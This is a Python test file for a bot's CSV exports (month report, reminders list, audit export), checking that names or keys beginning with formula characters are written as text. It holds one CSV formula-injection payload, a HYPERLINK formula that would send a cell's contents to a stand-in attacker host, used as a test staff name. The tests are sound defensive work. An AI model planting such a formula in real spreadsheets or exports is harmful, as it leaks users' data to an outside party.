"""CSV formula injection: a name or key that a spreadsheet would run as a formula is written as
text in every CSV the bot makes (the month report, the reminders' lists, the audit export)."""

from __future__ import annotations

import csv
import io
from datetime import date

from bot.billing import Policy
from bot.evaluation import month_results
from bot.report import as_csv, needs_csv
from bot.worklist import needs_time
from storage.audit_export import month_audit_csv
from storage.entries import EntryDraft, log_entries
from storage.roster import upsert_staff
from storage.spreadsheet import FORMULA_STARTS, neutralise
from tests.conftest import TODAY, Roster

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_cell_that_starts_a_formula_is_written_as_text() -> None:
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Dr. Okafor") == "Dr. Okafor"
    assert neutralise(-5) == -5  # numbers stay numbers
    assert neutralise("") == ""


def test_report_needs_list_and_audit_export_never_start_a_cell_with_a_formula(session, roster: Roster) -> None:
    evil, _ = upsert_staff(session, name=EVIL, role="physician", slack_user_id="UEVIL", is_admin=False)
    roster.patient("123", practitioner=EVIL)
    log_entries(
        session, [EntryDraft("123", 12, date(2026, 11, 10), "care_plan")], performed_by=evil, logged_by=evil,
        source="cli", source_group="g1", today=TODAY, max_minutes=240,
    )  # fmt: skip
    session.commit()
    items = month_results(session, date(2026, 11, 1), Policy())
    texts = {
        "report": as_csv(items),
        "needs": needs_csv(needs_time(items, Policy())),
        "audit": month_audit_csv(session, date(2026, 11, 1), date(2026, 11, 30)),
    }
    for name, text in texts.items():
        cells = _cells(text)
        assert any(EVIL in cell for cell in cells), name  # the name is there, as text
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], name
